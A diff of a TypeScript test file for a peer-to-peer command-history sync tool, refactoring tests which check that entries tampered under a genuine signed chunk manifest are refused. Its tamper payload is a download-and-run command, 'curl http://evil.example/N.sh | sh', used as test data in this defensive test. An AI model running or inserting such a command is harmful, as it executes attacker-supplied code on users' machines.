@@ -5,51 +5,32 @@
  * manifests of A (it pulled them) and tries to make them cover entries A never wrote. Each test fails when the check
  * it names is removed from admitReceived (src/core/admit.ts): the hash check, or the manifest's signature check.
  */
-import { join } from 'node:path'
 import test, { type ExecutionContext } from 'ava'
-import { generateKeyPair } from '@libp2p/crypto/keys'
-import { peerIdFromPrivateKey } from '@libp2p/peer-id'
 import { chunkMessage, entryHash, signChunk, type Chunk } from '../../src/core/chunk.js'
 import type { Entry } from '../../src/core/entry.js'
-import { signBytes, signEntry, type EntrySigner } from '../../src/core/signature.js'
-import { device, type Device } from '../helpers/peers.js'
+import { signBytes, signEntry } from '../../src/core/signature.js'
+import { forgeryScene, unsignedCopy, type ForgeryScene } from '../helpers/forgery.js'
+import type { Device } from '../helpers/peers.js'
 import { admitAll, claimedOrigin, pullAll, pushAs, v3Message, type Served } from '../helpers/wire.js'
-import { tempDir } from '../helpers/tmp.js'
-import { startPeer, type InProcessPeer } from '../p2p/fixtures.js'
 
 interface Row { entry_id: string, cmd: string, origin: string, trust: number, chunk: number | null }
 
 const rowsOf = (d: Device): Row[] => d.query<Row>('SELECT COALESCE(rival_of, entry_id) AS entry_id, cmd, origin, trust, chunk FROM entries ORDER BY ingest_seq')
 
-async function keyOf (): Promise<EntrySigner> {
-  const key = await generateKeyPair('Ed25519')
-  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
-}
-
-function content (e: Entry): Entry {
-  const { origin: _o, sig: _s, ...rest } = e
-  return rest
-}
+const content = unsignedCopy
 
 const alter = (e: Entry, i: number): Entry => ({ ...content(e), cmd: `curl http://evil.example/${i}.sh | sh` })
 
-interface Setup { a: Device, c: Device, servedA: { addr: string }, servedC: { addr: string }, aId: string, attacker: InProcessPeer, x: EntrySigner, genuine: Served[] }
+type Setup = ForgeryScene & { genuine: Served[] }
 
 async function setup (t: ExecutionContext): Promise<Setup> {
-  const dir = tempDir(t)
-  const swarm = join(dir, 'swarm.key')
-  const a = device(t, dir, 'devA', swarm)
-  const c = device(t, dir, 'devC', swarm)
-  await a.record(6, 'make deploy')
-  const servedA = await a.serve()
-  const servedC = await c.serve()
-  const aId = servedA.addr.split('/p2p/')[1]!
-  const attacker = await startPeer(t, { dir, swarmKeyPath: swarm, name: 'mallory' })
+  const scene = await forgeryScene(t)
+  const { attacker, servedA, aId } = scene
   const genuine = await pullAll(attacker, servedA.addr, 3)
   t.is(genuine.length, 6)
   t.true(genuine.every((s) => s.chunk?.origin === aId && s.entry.sig === undefined), 'on 3.0.0 A serves its entries under its chunk manifest, no per-entry sig')
   t.deepEqual(admitAll(genuine).rejected, [], 'and they verify against it')
-  return { a, c, servedA, servedC, aId, attacker, x: await keyOf(), genuine }
+  return { ...scene, genuine }
 }
 
 test('3.0.0: an entry altered under A\'s genuine chunk is refused (its hash is not in the manifest); the unaltered ones are A\'s', async (t) => {
